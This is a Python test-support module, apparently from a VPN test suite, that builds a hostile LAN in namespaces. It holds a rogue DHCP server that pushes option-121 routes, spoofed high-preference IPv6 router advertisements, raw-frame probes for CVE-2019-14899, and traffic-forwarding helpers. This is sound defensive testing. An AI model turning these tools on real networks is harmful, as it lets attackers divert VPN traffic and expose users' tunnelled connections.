"""What a hostile LAN does: addresses and routes by DHCP, routes by router advertisement, probes.

DHCP option 121 (RFC 3442) lets whoever gives addresses set routes, and route information (RFC 4191)
whoever advertises a router; both can be more specific than a VPN's.
"""

from __future__ import annotations

import contextlib
import ipaddress
import socket
import struct
import threading
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType

from tests.support import trust_packets as packets
from tests.support.namespaces import Namespace
from tests.support.trust_lab import (
    CLIENT4,
    ETHERNET,
    EVIL4,
    GATEWAY4,
    GATEWAY6,
    HOST4,
    HOST6,
    INSIDE4,
    INSIDE6,
    OUTSIDE4,
    OUTSIDE6,
    TUNNEL4,
    TUNNEL6,
    TrustLab,
)

_ALL_NODES = "ff02::1"
_ALL_NODES_MAC = bytes.fromhex("333300000001")
_HIGH_PREFERENCE = 0x08
_COOKIE = bytes.fromhex("63825363")
_SPOOFED = {"gateway": (TUNNEL4, TUNNEL6), "far end": (OUTSIDE4, OUTSIDE6)}
"""Who a probe may pretend to be: by IP version 4 and 6."""
_DISCOVER, _OFFER, _REQUEST, _ACK = 1, 2, 3, 5

_SCRIPT = """#!/bin/sh
# What dhclient and others do with a lease.
case "$1" in
bound|renew)
    ip -4 address replace "$ip/$mask" dev "$interface"
    for gateway in $router; do ip route replace default via "$gateway" dev "$interface"; done
    set -- $staticroutes
    while [ $# -ge 2 ]; do
        case "$2" in
        0.0.0.0) ip route replace "$1" dev "$interface" scope link ;;
        *) ip route replace "$1" via "$2" dev "$interface" ;;
        esac
        shift 2
    done
    if [ -n "$dns" ] && [ -n "$ADIT_TEST_RESOLV_CONF" ]; then
        for server in $dns; do echo "nameserver $server"; done > /etc/resolv.conf
    fi
    ;;
esac
"""


@dataclass(frozen=True)
class Offer:
    """What the DHCP server gives."""

    address: str = CLIENT4
    prefix: int = 24
    router: str = ""
    """None when empty, which leaves the client's default route alone."""
    dns: str = ""
    routes: tuple[tuple[str, str], ...] = ()
    """Network and gateway, for option 121."""


class EvilDhcp:
    """A DHCP server in ``namespace`` that gives everybody the same; a context manager."""

    def __init__(
        self, namespace: Namespace, offer: Offer, *, address: str = EVIL4, device: str = "eth0"
    ) -> None:
        self.offer = offer
        self.given = 0
        self._namespace = namespace
        self._address = address
        self._device = device
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> EvilDhcp:
        with self._namespace.inside():
            self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for option, value in ((socket.SO_BROADCAST, 1), (socket.SO_REUSEADDR, 1)):
            self._socket.setsockopt(socket.SOL_SOCKET, option, value)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, self._device.encode())
        self._socket.bind(("", 67))
        self._socket.settimeout(0.05)
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._ended.set()
        self._thread.join()
        self._socket.close()

    def _serve(self) -> None:
        while not self._ended.is_set():
            with contextlib.suppress(TimeoutError):
                request = self._socket.recv(2048)
                reply = self._reply(request)
                if reply:
                    self._socket.sendto(reply, ("255.255.255.255", 68))

    def _reply(self, request: bytes) -> bytes:
        if len(request) < 240 or request[236:240] != _COOKIE:
            return b""
        asked = _option(request, 53)
        if asked not in (bytes([_DISCOVER]), bytes([_REQUEST])):
            return b""
        kind = _OFFER if asked[0] == _DISCOVER else _ACK
        self.given += kind == _ACK
        offer = self.offer
        own = ipaddress.ip_address(self._address).packed
        mask = ipaddress.ip_network(f"0.0.0.0/{offer.prefix}").netmask.packed
        options = {53: bytes([kind]), 54: own, 51: struct.pack(">I", 3600), 1: mask}
        for number, address in ((3, offer.router), (6, offer.dns)):
            if address:
                options[number] = ipaddress.ip_address(address).packed
        if offer.routes:
            options[121] = b"".join(classless_route(*route) for route in offer.routes)
        header = bytes([2, *request[1:4]]) + request[4:12] + bytes(4)
        header += ipaddress.ip_address(offer.address).packed + own + bytes(4) + request[28:236]
        coded = b"".join(bytes([number, len(value)]) + value for number, value in options.items())
        return header + _COOKIE + coded + b"\xff" + bytes(60)


def classless_route(network: str, gateway: str) -> bytes:
    """One route of option 121 (RFC 3442): only the significant bytes of the network are sent."""
    parsed = ipaddress.IPv4Network(network)
    significant = parsed.network_address.packed[: (parsed.prefixlen + 7) // 8]
    return bytes([parsed.prefixlen]) + significant + ipaddress.ip_address(gateway).packed


def take_lease(namespace: Namespace, directory: Path, *, device: str = ETHERNET, dns: bool = False) -> None:
    """Have a real DHCP client ask for a lease and do what it says. Raises :class:`RuntimeError`."""
    script = directory / "udhcpc.script"
    script.write_text(_SCRIPT)
    script.chmod(0o755)
    client = ["udhcpc", "-f", "-q", "-n", "-t", "5", "-T", "1", "-i", device, "-s", str(script), "-O", "121"]
    environment = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"} | ({"ADIT_TEST_RESOLV_CONF": "1"} if dns else {})
    namespace.run(client, env=environment, timeout=20.0)


def advertise(
    lab: TrustLab, routes: Sequence[str], *, prefix: str = "", times: int = 3, device: str = "eth0"
) -> None:
    """Advertise the evil host as a router with high preference, and more specific routes through it."""
    mac = lab.mac(lab.evil, device)
    body = struct.pack(">BBHII", 64, _HIGH_PREFERENCE, 1800, 0, 0) + b"\x01\x01" + mac
    for text in routes:
        network = ipaddress.IPv6Network(text)
        body += struct.pack(">BBBBI", 24, 3, network.prefixlen, _HIGH_PREFERENCE, 1800)
        body += network.network_address.packed
    if prefix:
        network = ipaddress.IPv6Network(prefix)
        body += struct.pack(">BBBBIII", 3, 4, network.prefixlen, 0xC0, 3600, 3600, 0)
        body += network.network_address.packed
    link_local = _link_local(mac)
    packet = packets.icmp6(link_local, _ALL_NODES, 134, body, hops=255)
    send_frames(lab.evil, device, [packets.frame(_ALL_NODES_MAC, mac, packet)] * times)


def listen_to_advertisements(namespace: Namespace, device: str = ETHERNET, *, on: bool = True) -> None:
    """Have the client believe router advertisements, route information of any length included."""
    for name, value in (("accept_ra", int(on)), ("accept_ra_rt_info_max_plen", 128 if on else 0)):
        path = f"/proc/sys/net/ipv6/conf/{device}/{name}"
        namespace.run(["sh", "-c", f"test ! -e {path} || echo {value} > {path}"])


def send_frames(namespace: Namespace, device: str, frames: Sequence[bytes]) -> None:
    """Send Ethernet frames as they are."""
    with namespace.inside():
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    with raw:
        raw.bind((device, 0))
        for one in frames:
            raw.send(one)


ANSWERED = (
    "arp",
    "neighbour",
    *(f"{what}{version}" for what in ("syn", "ack", "udp", "echo") for version in (4, 6)),
)
"""Kinds of probes that a machine answers if it takes them: by what they ask."""
SPOOFED = tuple(
    f"{what}{version}-{who}"
    for what in ("syn", "ack", "udp", "echo")
    for version in (4, 6)
    for who in _SPOOFED
)
"""Kinds of probes whose answers would go into the tunnel, as they seem to come from there."""


def probes(lab: TrustLab, asks: str, count: int) -> list[bytes]:
    """Frames from the neighbour that ask whether the tunnel's addresses are here (CVE-2019-14899).

    ``asks`` is one of :data:`ANSWERED` or :data:`SPOOFED`. A machine that takes them on its LAN tells by
    its answers, or by what it then sends to its server, which addresses and connections it has in the tunnel.
    """
    ours, theirs = lab.mac(lab.host, "eth0"), lab.mac(lab.client, ETHERNET)
    if asks == "arp":
        return [packets.arp_request(ours, HOST4, INSIDE4)] * count
    if asks == "neighbour":
        return [packets.neighbour_solicitation(ours, HOST6, INSIDE6)] * count
    kind, _, who = asks.partition("-")
    six = kind.endswith("6")
    target = INSIDE6 if six else INSIDE4
    source = _SPOOFED[who][six] if who else (HOST6 if six else HOST4)
    result = []
    for number in range(count):
        port = 1024 + number % 60000
        match kind[:-1]:
            case "syn" | "ack":
                flags = packets.SYN if kind.startswith("syn") else packets.ACK
                packet = packets.tcp(source, target, port, from_port=443, flags=flags, sequence=number)
            case "udp":
                packet = packets.udp(source, target, port, from_port=53)
            case _:
                packet = packets.echo(source, target, sequence=number & 0xFFFF)
        result.append(packets.frame(theirs, ours, packet))
    return result


@contextlib.contextmanager
def claimed(lab: TrustLab) -> Iterator[None]:
    """The evil host answers for somebody on the internet, in the LAN."""
    for address in (OUTSIDE4, OUTSIDE6):
        further = ["nodad"] if ":" in address else []
        lab.evil.run(["ip", "address", "add", address, "dev", "eth0", *further])
    yield
    for address in (OUTSIDE4, OUTSIDE6):
        lab.evil.run(["ip", "address", "delete", address, "dev", "eth0"])


@contextlib.contextmanager
def forwarding(lab: TrustLab) -> Iterator[None]:
    """The evil host passes on what it overhears, so that nobody misses anything."""
    evil = lab.evil
    settings = ("ipv4/ip_forward", "ipv6/conf/all/forwarding")
    for gateway in (GATEWAY4, GATEWAY6):
        evil.run(["ip", "route", "add", "default", "via", gateway])
    for name in settings:
        evil.run(["sh", "-c", f"echo 1 > /proc/sys/net/{name}"])
    yield
    for name in settings:
        evil.run(["sh", "-c", f"echo 0 > /proc/sys/net/{name}"])
    for version in ("-4", "-6"):
        evil.run(["ip", version, "route", "delete", "default"])


def _link_local(mac: bytes) -> str:
    identifier = bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    return str(ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + identifier))


def _option(message: bytes, wanted: int) -> bytes:
    at = 240
    while at + 1 < len(message) and message[at] != 255:
        if message[at] == 0:
            at += 1
            continue
        length = message[at + 1]
        if message[at] == wanted:
            return message[at + 2 : at + 2 + length]
        at += 2 + length
    return b""
